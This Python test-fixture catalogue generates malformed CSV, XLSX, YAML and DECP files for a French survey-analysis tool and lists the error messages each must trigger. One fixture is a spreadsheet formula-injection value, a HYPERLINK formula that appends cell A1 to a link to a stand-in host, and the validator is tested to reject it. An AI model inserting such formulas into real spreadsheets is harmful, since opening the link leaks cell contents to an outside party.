"""The bad-input catalogue: small broken files, written at test time, and what the user must be told.

Each case is a dict:

``id``
    short name (the pytest id);
``fmt``
    ``csv``, ``xlsx``, ``mapping``, ``study`` or ``decp``;
``what``
    the defect, in French (the README's troubleshooting table is built from it);
``make``
    ``make(folder) -> argv``: writes the case's files into ``folder`` and returns the ``etude`` arguments;
``exit``
    expected exit code (1 for an error; 0 where the rule is to accept, or to skip and count with a warning);
``expect``
    fragments the output (stdout + stderr) must contain; a tuple inside the list means "any of these"
    (case-insensitive, spaces folded);
``todo``
    what to do, in French, for the README;
``env``
    ``env(folder) -> dict`` of environment variables the command needs (study cases run on a throw-away
    repository), or None;
``absent`` (optional)
    fragments the output must *not* contain (a notebook started when none should);
``after`` (optional)
    ``after(folder) -> bool``: what must still hold once the command ran (previous outputs untouched…).

Baseline exports are built from the codebook's own labels, so a case differs from a valid file by its defect
only; the ``ok_*`` control cases prove the baselines are valid. Nothing here is a committed binary: XLSX, zip
and UTF-16 files are made by code.

Examples
--------
>>> len([c for c in cases() if not c["id"].startswith("ok_")]) >= 25
True
"""
from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import yaml

from etude.survey import codebook

__all__ = ["cases", "case_ids", "buyers_rows", "companies_rows", "write_csv", "write_xlsx", "BUYER_HEADER_IDS",
           "question_text", "item_labels", "csv_text", "set_cell", "drop_column"]

# --- valid baseline exports ----------------------------------------------------------------------------------

BUYER_HEADER_IDS = ["Identifiant de la réponse", "Année", "Vous êtes", "Département"]


def _question(population: str) -> str:
    return codebook.load()["questionnaires"][population]["questions"]["barriers"]["text_fr"]


def _labels(population: str) -> list[str]:
    return codebook.items(population)["label_fr"].tolist()


def buyers_rows(*, layout: str = "wide", wave: int = 2017) -> list[list]:
    """A valid buyers export as rows (header first): 4 respondents, wide (``Oui``/empty) or packed layout.

    >>> buyers_rows()[0][:4]
    ['Identifiant de la réponse', 'Année', 'Vous êtes', 'Département']
    >>> len(buyers_rows()) - 1
    4
    """
    q, labels = _question("buyers"), _labels("buyers")
    people = [("R001", "Services de l'État", "59", [0, 2]),
              ("R002", "Collectivités territoriales", "62", [1]),
              ("R003", "Établissements de santé", "80", [2, 5, 6]),
              ("R004", "Services de l'État", "02", [3])]
    if layout == "wide":
        header = BUYER_HEADER_IDS + [f"{q} [{lab}]" for lab in labels] + ["Commentaires"]
        rows = [[rid, wave, typ, dep] + ["Oui" if i in chosen else "" for i in range(len(labels))] + ["RAS"]
                for rid, typ, dep, chosen in people]
    elif layout == "packed":
        header = BUYER_HEADER_IDS + [q, "Commentaires"]
        rows = [[rid, wave, typ, dep, ", ".join(labels[i] for i in chosen), "RAS"] for rid, typ, dep, chosen in people]
    else:
        raise ValueError(f"layout must be 'wide' or 'packed', not {layout!r}")
    return [header] + rows


def companies_rows(*, wave: int = 2017) -> list[list]:
    """A valid companies export (packed layout), 3 respondents.

    >>> companies_rows()[0][2]
    "Taille de l'entreprise"
    """
    q, labels = _question("companies"), _labels("companies")
    header = ["Identifiant de la réponse", "Année", "Taille de l'entreprise", "Département", q]
    rows = [["E01", wave, "PME", "59", labels[0]], ["E02", wave, "TPE", "62", f"{labels[1]}; {labels[3]}"],
            ["E03", wave, "ETI", "60", labels[4]]]
    return [header] + rows


def _csv_text(rows: list[list], sep: str = ";") -> str:
    import csv

    buf = io.StringIO()
    csv.writer(buf, delimiter=sep, lineterminator="\r\n").writerows(rows)
    return buf.getvalue()


def write_csv(path: Path, rows: list[list], *, sep: str = ";", encoding: str = "utf-8") -> Path:
    """Write rows as a CSV the way a survey tool or French Excel would (cp1252 has no « → »: Excel writes ->)."""
    text = _csv_text(rows, sep)
    if encoding.replace("-", "").lower() in ("cp1252", "windows1252"):
        text = text.replace("→", "->")
    path.write_bytes(text.encode(encoding))
    return path


def write_xlsx(path: Path, rows: list[list], *, title_rows: list[str] = (), sheet: str = "Réponses",
               edit: Callable | None = None) -> Path:
    """Write rows into the first sheet of a workbook, below optional title rows; ``edit(ws)`` may alter it."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = sheet
    for t in title_rows:
        ws.append([t])
    for r in rows:
        ws.append(r)
    if edit:
        edit(ws)
    wb.save(path)
    return path


def _validate(path: Path, population: str = "buyers", *extra: str) -> list[str]:
    return ["validate", str(path), "--population", population, *extra]


def _set(rows: list[list], row: int, column: str, value) -> list[list]:
    """Copy of ``rows`` with the cell at spreadsheet ``row`` (header = 1) and header ``column`` replaced."""
    out = [list(r) for r in rows]
    out[row - 1][out[0].index(column)] = value
    return out


def _q_col(population: str = "buyers") -> str:
    return _question(population)


# public names of the helpers above, for the area files (cases_*.py)
question_text, item_labels, csv_text, set_cell = _question, _labels, _csv_text, _set


# --- case builders ---------------------------------------------------------------------------------------------

def _csv_case(name: str, rows_or_bytes, *, sep=";", encoding="utf-8", population="buyers", extra=()):
    def make(folder: Path) -> list[str]:
        path = folder / name
        if isinstance(rows_or_bytes, bytes):
            path.write_bytes(rows_or_bytes)
        else:
            write_csv(path, rows_or_bytes, sep=sep, encoding=encoding)
        return _validate(path, population, *extra)
    return make


def _xlsx_case(name: str, rows=None, *, raw: bytes | None = None, title_rows=(), edit=None, extra=()):
    def make(folder: Path) -> list[str]:
        path = folder / name
        if raw is not None:
            path.write_bytes(raw)
        else:
            write_xlsx(path, rows, title_rows=title_rows, edit=edit)
        return _validate(path, "buyers", *extra)
    return make


def _valid_xlsx_bytes() -> bytes:
    buf = io.BytesIO()
    wb = openpyxl.Workbook()
    for r in buyers_rows():
        wb.active.append(r)
    wb.save(buf)
    return buf.getvalue()


def _ole_encrypted_bytes() -> bytes:
    """What Excel writes for a password-protected workbook: an OLE compound file, not a zip.

    Only the container's signature and the stream names an Office reader looks for; enough for a loader to
    tell "protected" from "corrupt" (both must give a clear message).
    """
    header = bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    body = "EncryptionInfo".encode("utf-16-le") + b"\0" * 64 + "EncryptedPackage".encode("utf-16-le")
    return (header + b"\0" * (512 - len(header)) + body).ljust(4096, b"\0")


def _merge_header(ws) -> None:
    # "Vous êtes" spread over two merged header cells (C1:D1): the Département header disappears under the merge
    ws["D1"].value = None
    ws.merge_cells("C1:D1")


def _empty_header(rows):
    out = [list(r) for r in rows]
    out[0][out[0].index("Département")] = ""
    return out


def _dup_column(rows):
    out = [list(r) for r in rows]
    i = out[0].index("Vous êtes")
    for r in out:
        r.insert(i + 1, r[i])
    out[2][i + 1] = "Établissements de santé"  # the copies disagree on row 3
    return out


def _drop_column(rows, column):
    i = rows[0].index(column)
    return [[v for j, v in enumerate(r) if j != i] for r in rows]


def _mixed_sep_bytes() -> bytes:
    rows = buyers_rows()
    text = _csv_text(rows[:3], ";") + _csv_text(rows[3:], ",")  # rows 4-5 written with commas
    return text.encode("utf-8")


def _undecodable_bytes() -> bytes:
    """A UTF-8 export whose row 3 carries bytes that neither UTF-8 nor Windows-1252 can decode (0x81, 0x8D)."""
    lines = _csv_text(buyers_rows(), ";").encode("utf-8").split(b"\r\n")
    lines[2] = lines[2].replace(b"RAS", b"RAS \x81\x8d")
    return b"\r\n".join(lines)


def _html_bytes() -> bytes:
    return ("<!DOCTYPE html>\n<html><head><title>Connexion - LimeSurvey</title></head>\n<body><form>"
            "<input name=\"user\"></form><table><tr><td>Session expirée</td></tr></table></body></html>\n"
            ).encode()


def _truncated_xlsx() -> bytes:
    data = _valid_xlsx_bytes()
    return data[: len(data) // 2]


drop_column = _drop_column


# --- mapping and study files -----------------------------------------------------------------------------------

def _odd_rows() -> list[list]:
    """A buyers export with its own headers and values (what a mapping file is for)."""
    labels = _labels("buyers")
    return [["ID", "Annee", "Structure", "Dept", "Obstacles"],
            ["X1", 2017, "Ministère", "59", labels[0]],
            ["X2", 2017, "Mairie", "62", labels[1]]]


def _mapping_case(name: str, mapping_text: str):
    def make(folder: Path) -> list[str]:
        data = write_csv(folder / "export_maison.csv", _odd_rows())
        m = folder / name
        m.write_text(mapping_text, encoding="utf-8")
        return _validate(data, "buyers", "--mapping", str(m))
    return make


def _mapping(values: dict | None = None, columns: dict | None = None) -> str:
    doc = {"columns": columns or {"ID": "respondent_id", "Annee": "wave", "Structure": "buyer_type",
                                  "Dept": "departement", "Obstacles": "barriers"},
           "values": {"buyer_type": values or {"Ministère": "etat", "Mairie": "collectivite"}}}
    return yaml.safe_dump(doc, allow_unicode=True, sort_keys=False)


def _study_case(name: str, study: Callable[[Path], str], out_sub: str = "out"):
    """``etude reproduce --study`` on a throw-away repository (``ETUDE_ROOT``, see the case's ``env``) whose only
    notebook loads the study: fast, and independent of the study notebooks."""
    def make(folder: Path) -> list[str]:
        from bad_inputs import runs

        runs.tiny_root(folder, ("01_ok",))
        s = folder / name
        s.write_text(study(folder), encoding="utf-8")
        return ["reproduce", "--study", str(s), "--out", str(folder / out_sub), "--jobs", "1"]
    return make


def _tiny_env(folder: Path) -> dict:
    from bad_inputs import runs

    return runs.env_for(folder / "depot")


def _study_doc(entries: list[dict], population: str = "buyers") -> str:
    """A study file (format of data/demo/etude.yaml): questionnaire → list of waves."""
    return yaml.safe_dump({"title": "Étude de test", population: entries}, allow_unicode=True, sort_keys=False)


def _study_with_export(folder: Path, *, file_wave: int, study_wave: int, population: str = "buyers") -> str:
    write_csv(folder / "acheteurs_2017.csv", buyers_rows(wave=file_wave))
    return _study_doc([{"wave": study_wave, "file": "acheteurs_2017.csv"}], population=population)


# --- DECP ------------------------------------------------------------------------------------------------------

def _decp_record(i: int, **over) -> dict:
    rec = {"id": f"2019TEST{i:04d}", "acheteur": {"id": "21590163800019", "nom": "Ville de Test (59)"},
           "nature": "Marché", "objet": f"Objet {i}", "codeCPV": "34928400", "procedure": "Procédure adaptée",
           "lieuExecution": {"code": "59170", "typeCode": "Code postal", "nom": "Croix"}, "dureeMois": "12",
           "dateNotification": "2019-03-15", "datePublicationDonnees": "2019-03-20", "montant": "10000.00",
           "formePrix": "Ferme", "titulaires": [{"id": "81809944200019", "typeIdentifiant": "SIRET",
                                                  "denominationSociale": "ENTREPRISE TEST"}], "modifications": []}
    rec.update(over)
    return rec


def _decp_case(name: str, content: Callable[[], bytes], *extra: str):
    def make(folder: Path) -> list[str]:
        path = folder / name
        path.write_bytes(content())
        return ["decp", str(path), "--region", "none", *extra]
    return make


def _decp_json(records: list[dict]) -> bytes:
    return json.dumps({"marches": records}, ensure_ascii=False, indent=2).encode("utf-8")


def _decp_zip_of(inner: bytes, name: str = "decp.json") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(name, inner)
    return buf.getvalue()


# --- the catalogue ---------------------------------------------------------------------------------------------

def cases() -> list[dict]:
    """Every case of the catalogue, controls (``ok_*``) first."""
    q = _q_col()
    labels = _labels("buyers")
    wide, packed = buyers_rows(), buyers_rows(layout="packed")
    juridique = labels[5]  # « Craintes juridiques »
    typo = juridique.replace("juridiques", "juridques")
    long_value = "Freins " + "très " * 20000 + "longs"
    hyperlink = '=HYPERLINK("http://x.example/p?c="&A1;"État")'

    C: list[dict] = []

    def add(id, fmt, what, make, exit, expect, todo):
        C.append({"id": id, "fmt": fmt, "what": what, "make": make, "exit": exit, "expect": expect, "todo": todo,
                  "env": _tiny_env if fmt == "study" else None})

    # controls: the baselines are valid
    add("ok_csv_wide_cp1252", "csv", "export large valide (cp1252, ;)",
        _csv_case("acheteurs_large.csv", wide, encoding="cp1252"), 0, ["valide"], "")
    add("ok_csv_packed_utf8bom", "csv", "export groupé valide (UTF-8 avec BOM, ,)",
        _csv_case("acheteurs_groupe.csv", packed, sep=",", encoding="utf-8-sig"), 0, ["valide"], "")
    add("ok_xlsx", "xlsx", "classeur valide", _xlsx_case("acheteurs.xlsx", wide), 0, ["valide"], "")
    add("ok_companies", "csv", "export entreprises valide",
        _csv_case("entreprises.csv", companies_rows(), population="companies"), 0, ["valide"], "")

    # --- CSV ---
    add("ok_csv_utf16_bom", "csv", "export en UTF-16 avec BOM (Excel « Texte Unicode »)",
        _csv_case("acheteurs_utf16.csv", wide, sep="\t", encoding="utf-16"), 0, ["valide"], "")
    add("csv_utf16_without_bom", "csv", "fichier en UTF-16 sans BOM (encodage non reconnu)",
        _csv_case("acheteurs_utf16le.csv", wide, sep="\t", encoding="utf-16-le"), 1,
        ["acheteurs_utf16le.csv", "ligne 1", "encodage", ("UTF-8", "utf-8")],
        "Réenregistrer le fichier en « CSV UTF-8 » (Excel : Enregistrer sous → CSV UTF-8).")
    add("csv_undecodable_bytes", "csv", "octets illisibles en UTF-8 comme en Windows-1252",
        _csv_case("acheteurs_octets.csv", _undecodable_bytes()), 1,
        ["acheteurs_octets.csv", "ligne 3", "encodage", ("UTF-8", "utf-8")],
        "Réenregistrer le fichier en « CSV UTF-8 » ; si l'erreur persiste, corriger la ligne indiquée.")
    add("csv_mixed_separators", "csv", "séparateurs mélangés (; puis ,)",
        _csv_case("acheteurs_sep.csv", _mixed_sep_bytes()), 1,
        ["acheteurs_sep.csv", "ligne 4", ("séparateur", "separateur", "colonnes")],
        "Réexporter le fichier d'un seul tenant : un seul séparateur (; ou ,) sur toutes les lignes.")
    add("csv_header_on_row_3", "csv", "deux lignes de titre au-dessus de l'en-tête",
        _csv_case("acheteurs_titre.csv", [["Export LimeSurvey"], ["Enquête acheteurs 2017"]] + wide), 0,
        ["valide"], "")
    add("csv_empty_header_cell", "csv", "cellule d'en-tête vide au-dessus d'une colonne remplie",
        _csv_case("acheteurs_entete_vide.csv", _empty_header(wide)), 0,
        ["avertissement", "acheteurs_entete_vide.csv", "ligne 1",
         ("colonne 4", "colonne D", "colonne « D »", "4e colonne"),
         ("en-tête vide", "sans en-tête", "en-tête manquant")],
        "Donner un en-tête à chaque colonne remplie (ou supprimer la colonne).")
    add("csv_duplicate_columns", "csv", "colonne en double (« Vous êtes » deux fois)",
        _csv_case("acheteurs_double.csv", _dup_column(wide)), 1,
        ["acheteurs_double.csv", "colonne « Vous êtes »", ("double", "dupliqu", "plusieurs fois")],
        "Supprimer ou renommer la colonne en double.")
    add("csv_unknown_item_label", "csv", "libellé de frein inconnu (format groupé)",
        _csv_case("acheteurs_inconnu.csv", _set(packed, 3, q, "Freins fiscaux")), 1,
        ["acheteurs_inconnu.csv", "ligne 3", f"colonne « {q} »", "Freins fiscaux", "attendu"],
        "Corriger le libellé ou l'associer à un code dans un fichier de correspondance (--mapping).")
    add("csv_label_typo", "csv", "libellé de frein avec une faute de frappe",
        _csv_case("acheteurs_typo.csv", _set(packed, 2, q, f"{labels[0]}, {typo}")), 1,
        ["acheteurs_typo.csv", "ligne 2", f"colonne « {q} »", typo,
         (f"vouliez-vous dire « {juridique} »", f"proche : {juridique}", f"le plus proche : « {juridique} »",
          f"« {juridique} » ?")],
        "Corriger la faute (le message propose le libellé le plus proche).")
    add("csv_unknown_item_column", "csv", "colonne de frein inconnue (format large)",
        _csv_case("acheteurs_colonne.csv", [r + [v] for r, v in zip(wide, [f"{q} [Autre frein]", "Oui", "", "", ""])]),
        1, ["acheteurs_colonne.csv", "ligne 1", f"colonne « {q} [Autre frein] »", "Autre frein"],
        "Retirer la colonne, corriger son libellé, ou l'associer à un code (--mapping).")
    add("csv_wide_bad_value", "csv", "valeur inattendue dans une colonne de frein (format large)",
        _csv_case("acheteurs_valeur.csv", _set(wide, 3, f"{q} [{labels[1]}]", "Peut-être")), 1,
        ["acheteurs_valeur.csv", "ligne 3", f"colonne « {q} [{labels[1]}] »", "Peut-être", "Oui"],
        "Utiliser Oui / vide (ou 1 / 0, X) dans les colonnes de freins.")
    add("csv_duplicate_ids", "csv", "identifiant de réponse en double",
        _csv_case("acheteurs_ids.csv", _set(wide, 4, "Identifiant de la réponse", "R002")), 1,
        ["acheteurs_ids.csv", "ligne 4", "colonne « Identifiant de la réponse »", ("double", "dupliqu")],
        "Chaque réponse doit avoir un identifiant unique : supprimer le doublon ou corriger l'identifiant.")
    add("csv_empty_file", "csv", "fichier vide (0 octet)",
        _csv_case("acheteurs_vide.csv", b""), 1, ["acheteurs_vide.csv", "vide"],
        "Le fichier est vide : refaire l'export depuis l'outil d'enquête.")
    add("csv_header_only", "csv", "en-tête seul, aucune réponse",
        _csv_case("acheteurs_entete.csv", wide[:1]), 1,
        ["acheteurs_entete.csv", ("aucune réponse", "aucune ligne", "vide")],
        "L'export ne contient aucune réponse : vérifier les filtres de l'export.")
    add("csv_is_html", "csv", "« CSV » qui est en fait une page HTML (session expirée)",
        _csv_case("acheteurs_page.csv", _html_bytes()), 1,
        ["acheteurs_page.csv", ("page web", "page HTML", "du HTML", "document HTML")],
        "Le téléchargement a renvoyé une page web : se reconnecter à l'outil d'enquête et retélécharger l'export.")
    add("csv_extremely_long_cell", "csv", "cellule de 100 000 caractères",
        _csv_case("acheteurs_long.csv", _set(packed, 2, q, long_value)), 1,
        ["acheteurs_long.csv", "ligne 2", f"colonne « {q} »", "…"],
        "Vérifier la cellule signalée : un libellé de frein ne fait que quelques mots.")
    add("csv_formula_in_attribute", "csv", "formule (=HYPERLINK) dans une cellule",
        _csv_case("acheteurs_formule.csv", _set(wide, 2, "Vous êtes", hyperlink)), 1,
        ["acheteurs_formule.csv", "ligne 2", "colonne « Vous êtes »", "=HYPERLINK", "Services de l'État"],
        "Remplacer la formule par sa valeur (Excel : Copier, puis Collage spécial → Valeurs).")
    add("csv_formula_in_free_text", "csv", "formule dans un commentaire libre (texte conservé, jamais exécuté)",
        _csv_case("acheteurs_formule_texte.csv", _set(wide, 2, "Commentaires", hyperlink)), 0, ["valide"], "")
    add("csv_wave_contradicts", "csv", "vague du fichier ≠ vague attendue",
        _csv_case("acheteurs_vague.csv", _set(wide, 3, "Année", 2018), extra=("--wave", "2017")), 1,
        ["acheteurs_vague.csv", "ligne 3", "colonne « Année »", "2018", "2017"],
        "Corriger l'année dans le fichier ou la vague déclarée dans le fichier d'étude.")
    add("csv_wave_not_a_year", "csv", "vague illisible (« 2017/18 »)",
        _csv_case("acheteurs_annee.csv", _set(wide, 2, "Année", "2017/18")), 1,
        ["acheteurs_annee.csv", "ligne 2", "colonne « Année »", "2017/18", ("année", "annee")],
        "Écrire l'année de la vague sur quatre chiffres (2017).")
    add("csv_missing_required_column", "csv", "colonne obligatoire absente (type d'acheteur)",
        _csv_case("acheteurs_sans_type.csv", _drop_column(wide, "Vous êtes")), 1,
        ["acheteurs_sans_type.csv", ("Vous êtes", "Type d'acheteur", "buyer_type"),
         ("manquant", "absent", "introuvable")],
        "Ajouter la colonne (ou l'indiquer dans un fichier de correspondance --mapping).")
    add("csv_unknown_departement", "csv", "département hors région (75)",
        _csv_case("acheteurs_dep.csv", _set(wide, 5, "Département", "75")), 1,
        ["acheteurs_dep.csv", "ligne 5", "colonne « Département »", "75", ("59", "Nord")],
        "Utiliser un département des Hauts-de-France : 02, 59, 60, 62, 80.")
    add("csv_missing_file", "csv", "fichier introuvable",
        lambda folder: _validate(folder / "absent.csv"), 1, ["absent.csv", ("introuvable", "n'existe pas")],
        "Vérifier le chemin du fichier (et, dans un fichier d'étude, qu'il est relatif au fichier d'étude).")

    # --- XLSX ---
    add("xlsx_zero_bytes", "xlsx", "classeur XLSX de 0 octet",
        _xlsx_case("acheteurs_vide.xlsx", raw=b""), 1, ["acheteurs_vide.xlsx", "vide"],
        "Le fichier est vide : refaire l'export.")
    add("xlsx_corrupt", "xlsx", "classeur XLSX tronqué (corrompu)",
        _xlsx_case("acheteurs_tronque.xlsx", raw=_truncated_xlsx()), 1,
        ["acheteurs_tronque.xlsx", ("corrompu", "illisible", "endommagé")],
        "Rouvrir le fichier dans Excel et l'enregistrer de nouveau en .xlsx, ou refaire l'export.")
    add("xlsx_password_protected", "xlsx", "classeur protégé par mot de passe",
        _xlsx_case("acheteurs_protege.xlsx", raw=_ole_encrypted_bytes()), 1,
        ["acheteurs_protege.xlsx", "mot de passe"],
        "Retirer le mot de passe (Excel : Fichier → Informations → Protéger le classeur) puis réenregistrer.")
    add("xlsx_header_on_row_3", "xlsx", "deux lignes de titre au-dessus de l'en-tête",
        _xlsx_case("acheteurs_titre.xlsx", wide, title_rows=["Enquête acheteurs", "Export du 12/10/2017"]), 0,
        ["valide"], "")
    add("xlsx_merged_header", "xlsx", "cellules d'en-tête fusionnées",
        _xlsx_case("acheteurs_fusion.xlsx", wide, edit=_merge_header), 0,
        ["avertissement", "acheteurs_fusion.xlsx", "ligne 1", ("colonne 4", "colonne D", "colonne « D »", "4e colonne"),
         ("fusionn", "en-tête vide", "sans en-tête")],
        "Défusionner les cellules d'en-tête : un en-tête par colonne, sur une seule ligne.")
    add("xlsx_formula_cell", "xlsx", "formule dans une cellule du classeur",
        _xlsx_case("acheteurs_lien.xlsx", _set(wide, 3, "Vous êtes", '=HYPERLINK("http://x.example","État")')),
        1, ["acheteurs_lien.xlsx", "ligne 3", "colonne « Vous êtes »", ("formule", "=HYPERLINK")],
        "Remplacer la formule par sa valeur (Copier, puis Collage spécial → Valeurs).")
    add("xlsx_wrong_sheet", "xlsx", "feuille demandée absente",
        _xlsx_case("acheteurs_feuille.xlsx", wide, extra=("--sheet", "Feuil9")), 1,
        ["acheteurs_feuille.xlsx", "Feuil9", "Réponses"],
        "Choisir une des feuilles listées avec --sheet.")

    # --- mapping YAML ---
    add("ok_mapping", "mapping", "fichier de correspondance valide", _mapping_case("correspondance.yaml", _mapping()),
        0, ["valide"], "")
    add("mapping_unknown_code", "mapping", "correspondance vers un code inconnu",
        _mapping_case("correspondance_code.yaml",
                      _mapping(values={"Ministère": "ministere", "Mairie": "collectivite"})),
        1, ["correspondance_code.yaml", "ministere", "etat"],
        "Utiliser un des codes listés (voir data/codebook/codebook.yaml).")
    add("mapping_unknown_target", "mapping", "correspondance vers un attribut inconnu",
        _mapping_case("correspondance_cible.yaml", _mapping(columns={
            "ID": "respondent_id", "Annee": "wave", "Structure": "type_acheteur", "Dept": "departement",
            "Obstacles": "barriers"})), 1, ["correspondance_cible.yaml", "type_acheteur", "buyer_type"],
        "Utiliser un des noms d'attribut listés (buyer_type, departement…).")
    add("mapping_yaml_syntax", "mapping", "fichier de correspondance mal formé (YAML)",
        _mapping_case("correspondance_syntaxe.yaml", "columns:\n  ID: respondent_id\n\tAnnee: wave\n"), 1,
        ["correspondance_syntaxe.yaml", "ligne 3"],
        "Corriger la ligne indiquée (indentation par espaces, pas de tabulation ; guillemets fermés).")

    # --- study YAML ---
    add("study_yaml_syntax", "study", "fichier d'étude mal formé (YAML)",
        _study_case("etude_syntaxe.yaml", lambda d: "buyers:\n  - wave: 2017\n    file: \"acheteurs.csv\n"), 1,
        ["etude_syntaxe.yaml", "ligne"],
        "Corriger la ligne indiquée du fichier d'étude (guillemets, indentation).")
    add("study_missing_export", "study", "fichier d'étude qui cite un export absent",
        _study_case("etude_absent.yaml", lambda d: _study_doc([{"wave": 2017, "file": "acheteurs_2017.csv"}])), 1,
        ["etude_absent.yaml", "acheteurs_2017.csv", ("introuvable", "n'existe pas", "absent")],
        "Vérifier le chemin de l'export (relatif au dossier du fichier d'étude).")
    add("study_wave_contradicts", "study", "vague du fichier d'étude ≠ année dans l'export",
        _study_case("etude_vague.yaml", lambda d: _study_with_export(d, file_wave=2018, study_wave=2017)), 1,
        ["acheteurs_2017.csv", "colonne « Année »", "2018", "2017"],
        "Corriger la vague dans le fichier d'étude ou l'année dans l'export.")
    add("study_unknown_population", "study", "questionnaire inconnu dans le fichier d'étude",
        _study_case("etude_population.yaml", lambda d: _study_with_export(d, file_wave=2017, study_wave=2017,
                                                                     population="acheteurs")), 1,
        ["etude_population.yaml", "acheteurs", "buyers"],
        "Indiquer buyers ou companies.")

    # --- DECP JSON ---
    add("decp_truncated_json", "decp", "fichier DECP JSON tronqué",
        _decp_case("decp_tronque.json", lambda: _decp_json([_decp_record(i) for i in range(3)])[:-40]), 1,
        ["decp_tronque.json", "ligne", "JSON"],
        "Le fichier est incomplet (téléchargement interrompu) : le retélécharger.")
    add("decp_french_amount", "decp", "montant écrit « 1 234,50 € »",
        _decp_case("decp_montant.json", lambda: _decp_json([_decp_record(1), _decp_record(2, montant="1 234,50 €")])),
        0, ["2019TEST0002", "montant", "1 234,50 €"],
        "Rien à faire si le montant est lu ; sinon le marché est compté à part : écrire le montant 1234.50.")
    add("decp_impossible_date", "decp", "date impossible (2019-02-30)",
        _decp_case("decp_date.json",
                   lambda: _decp_json([_decp_record(1), _decp_record(2, dateNotification="2019-02-30")])),
        0, ["2019TEST0002", "dateNotification", "2019-02-30"],
        "Le marché est écarté des chiffres par année et compté dans le résumé ; corriger la date à la source.")
    add("decp_empty_file", "decp", "fichier DECP vide",
        _decp_case("decp_vide.json", lambda: b""), 1, ["decp_vide.json", "vide"],
        "Le fichier est vide : le retélécharger.")
    add("decp_not_decp", "decp", "JSON qui n'est pas au format DECP",
        _decp_case("decp_autre.json", lambda: json.dumps({"results": []}).encode()), 1,
        ["decp_autre.json", "marches"],
        "Fournir un fichier DECP (format 2017 {\"marches\": […]} ou 2022+), ou le CSV/Parquet consolidé.")
    add("decp_html", "decp", "« JSON » qui est en fait une page HTML",
        _decp_case("decp_page.json", _html_bytes), 1,
        ["decp_page.json", ("page web", "page HTML", "du HTML", "document HTML", "JSON illisible", "JSON invalide")],
        "Le téléchargement a renvoyé une page web : retélécharger le fichier.")
    add("decp_zip_truncated", "decp", "archive ZIP DECP corrompue",
        _decp_case("decp_archive.zip", lambda: _decp_zip_of(_decp_json([_decp_record(1)]))[:60]), 1,
        ["decp_archive.zip", ("ZIP", "zip", "archive")],
        "L'archive est incomplète : la retélécharger.")
    # Cases kept beside this file by area (same dict shape), so each area adds its own without touching this list.
    from bad_inputs import cases_decp, cases_disclosure, cases_engine, cases_privacy, cases_survey, cases_weights
    C.extend(cases_survey.cases())
    C.extend(cases_privacy.cases())
    C.extend(cases_disclosure.cases())
    C.extend(cases_weights.cases())
    C.extend(cases_decp.cases())
    C.extend(cases_engine.cases())
    return C


def case_ids() -> list[str]:
    """Ids of the catalogue's cases, in order."""
    return [c["id"] for c in cases()]
